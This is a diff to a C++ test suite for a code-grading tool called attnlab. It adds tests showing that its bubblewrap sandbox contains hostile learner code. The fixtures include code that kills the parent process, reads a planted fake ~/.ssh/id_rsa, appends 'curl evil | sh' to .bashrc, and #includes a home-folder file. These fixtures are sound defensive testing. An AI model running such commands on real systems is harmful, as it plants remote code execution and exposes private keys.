@@ -659,14 +659,67 @@ TEST_CASE("a process the learner's code moves out of the group (setsid) does not
   CHECK(within(2, [&] { return processes_under(home.root).empty(); }));
 }
 
-TEST_CASE("learner code that kills attnlab (kill(getppid(), SIGKILL)) takes the grader down with it") {
+TEST_CASE("learner code that kills attnlab (kill(getppid(), SIGKILL)): the sandbox keeps attnlab out of reach; without it the grader goes down with attnlab") {
   Home home;
   write(home.learner("attention"),
         attention_with("  kill(getppid(), SIGKILL);\n  for (volatile unsigned spin = 0;; spin = spin + 1) {\n  }\n",
                        "#include <signal.h>\n#include <unistd.h>\n"));
+  // In the sandbox's PID namespace the parent is the namespace's init, which SIGKILL from inside
+  // cannot end: attnlab lives on and stops the spinning grader at its time limit.
+  const Result boxed = run(home, {"check", "attention", "--timeout", "3"});
+  INFO(boxed.out << boxed.err);
+  CHECK(boxed.code == 1);
+  CHECK(contains(boxed.out, "timed out after 3 s"));
+  CHECK(within(3, [&] { return processes_under(home.root).empty(); }));
+  home.extra.push_back("ATTNLAB_SANDBOX=0");
   const Result r = run(home, {"check", "attention", "--timeout", "60"});
   CHECK(r.code == 128 + SIGKILL);
   CHECK(within(3, [&] { return processes_under(home.root).empty(); }));
+}
+
+// ---- the sandbox (exercises/sandbox.hpp): bubblewrap, which scripts/install-deps.sh installs ----------
+
+TEST_CASE("in the sandbox, learner code cannot read the home folder, write outside its build folder, or include a file from home") {
+  Home home;
+  write(home.root / ".ssh" / "id_rsa", "SECRET-TOKEN-42\n");
+  write(home.root / ".bashrc", "# the learner's own\n");
+  const std::string secret = (home.root / ".ssh" / "id_rsa").string(), rc = (home.root / ".bashrc").string(),
+                    outside = (home.root / "escaped.txt").string();
+  write(home.learner("attention"),
+        attention_with("  { std::ifstream f(\"" + secret + "\"); std::string s; std::getline(f, s); std::cout << \"read [\" << s << \"]\\n\"; }\n"
+                       "  { std::ofstream(\"" + rc + "\", std::ios::app) << \"curl evil | sh\\n\"; }\n"
+                       "  { std::ofstream(\"" + outside + "\") << \"out\\n\"; }\n",
+                       "#include <fstream>\n#include <iostream>\n#include <string>\n"));
+  const Result r = run(home, {"check", "attention"});
+  INFO(r.out << r.err);
+  CHECK(r.code == 0);  // the function is still right
+  CHECK(contains(r.out, "read []"));
+  CHECK_FALSE(contains(r.out + r.err, "SECRET-TOKEN-42"));
+  CHECK(slurp(home.root / ".bashrc") == "# the learner's own\n");
+  CHECK_FALSE(fs::exists(home.root / "escaped.txt"));
+  CHECK_FALSE(contains(r.err, "warning"));
+
+  // #include of a file from home: not found, and nothing of it in the compiler's messages.
+  write(home.learner("softmax"), "#include \"../../../../.ssh/id_rsa\"\n" + solution_of("04-softmax", "softmax"));
+  const Result inc = run(home, {"check", "softmax"});
+  INFO(inc.out << inc.err);
+  CHECK(inc.code == 1);
+  CHECK(contains(inc.out, "does not compile"));
+  CHECK_FALSE(contains(inc.out + inc.err, "SECRET-TOKEN-42"));
+}
+
+TEST_CASE("where bubblewrap cannot start, check still works and says in one line that it runs without a sandbox") {
+  Home home;
+  write(home.learner("attention"), solution_of("05-weighted-sum", "attention"));
+  for (const std::string setting : {"ATTNLAB_BWRAP=/bin/false", "ATTNLAB_SANDBOX=0"}) {
+    CAPTURE(setting);
+    home.extra = {setting};
+    const Result r = run(home, {"check", "attention"});
+    INFO(r.out << r.err);
+    CHECK(r.code == 0);
+    CHECK(contains(r.err, "attnlab: warning: your code is compiled and graded without a sandbox, with your own rights: "));
+    CHECK(std::count(r.err.begin(), r.err.end(), '\n') == 1);
+  }
 }
 
 // ---- two commands at once, two workspaces ------------------------------------------------------------
